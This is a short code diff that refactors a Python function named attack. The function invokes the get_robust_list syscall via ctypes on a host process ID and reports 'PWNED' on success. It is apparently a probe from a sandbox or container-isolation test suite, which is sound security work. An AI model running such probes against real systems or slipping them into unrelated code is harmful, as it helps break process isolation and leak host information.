@@ -15,7 +15,8 @@ def attack(target):
     number = NUMBER[os.uname().machine]
     head = ctypes.c_void_p()
     size = ctypes.c_size_t()
-    result = libc.syscall(*map(ctypes.c_long, (number, target["host_pid"], ctypes.addressof(head), ctypes.addressof(size))))
+    arguments = (target["host_pid"], ctypes.addressof(head), ctypes.addressof(size))
+    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return f"PWNED: get_robust_list returned {result}"
